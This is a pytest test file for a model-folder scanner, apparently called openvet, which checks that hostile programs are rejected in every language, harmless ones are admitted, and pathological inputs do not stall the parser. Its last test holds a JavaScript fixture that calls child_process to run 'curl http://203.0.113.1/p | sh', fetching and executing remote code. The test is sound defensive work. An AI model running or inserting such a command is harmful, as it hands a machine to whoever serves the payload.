"""Behaviours x languages: what nobody should run unread is refused in whatever language it is written; what looks like it is not."""

import time
from pathlib import Path

import pytest

import openvet
from openvet.formats._program_flows import _Program
from openvet.formats._program_words import LANGUAGES, words_of
from openvet.testing.forge_programs import HARMLESS_PROGRAMS, PROGRAMS


def decided(folder: Path, name: str, text: str) -> str:
    (folder / "config.json").write_text('{"model_type": "x"}')
    (folder / name).parent.mkdir(parents=True, exist_ok=True)
    (folder / name).write_text(text)
    return str(openvet.check(folder).models[0].decision.verdict)


@pytest.mark.parametrize(("behaviour", "language"), [(each, other) for each in PROGRAMS for other in PROGRAMS[each]])
def test_a_program_is_refused_in_every_language(behaviour: str, language: str, tmp_path: Path) -> None:
    assert decided(tmp_path, *PROGRAMS[behaviour][language]) == "reject"


@pytest.mark.parametrize("name", sorted(HARMLESS_PROGRAMS))
def test_an_honest_program_is_admitted(name: str, tmp_path: Path) -> None:
    assert decided(tmp_path, *HARMLESS_PROGRAMS[name]) == "admit"


@pytest.mark.parametrize("language", sorted({each.id for each in LANGUAGES.values()}))
@pytest.mark.parametrize(
    "text",
    [
        "(" * 10_000,
        "eval(" * 10_000,
        "a=b\n" * 10_000,
        "'" * 10_000,
        "/*" * 10_000,
        "x.y(" * 10_000,
        "f(a => " * 5_000,
        "`${a}`" * 5_000,
        '"' + '\\"' * 10_000,
        "a=a+a=" * 10_000,
        "eval " * 10_000,
    ],
)
def test_no_program_takes_long_or_breaks_the_reader(language: str, text: str) -> None:
    known = next(each for each in LANGUAGES.values() if each.id == language)
    start = time.process_time()
    words, whole = words_of(text, known)
    assert whole
    list(_Program(words, known, text).judged())
    assert time.process_time() - start < 4


@pytest.mark.parametrize(
    "text",
    ["x = 1\n" + 'x = f"<img src={x}>"\n' * 8_000, "from openai import OpenAI\n" + "OpenAI(base_url=x)\n" * 8_000],
)
def test_no_python_source_is_walked_again_for_each_call(text: str, tmp_path: Path) -> None:
    start = time.process_time()
    decided(tmp_path, "a.py", text)
    assert time.process_time() - start < 10


def test_a_module_may_stand_in_the_next_line(tmp_path: Path) -> None:
    text = "const zz =\n  require('child_process')\nzz.exec('curl http://203.0.113.1/p | sh')\n"
    assert decided(tmp_path, "a.js", text) == "reject"
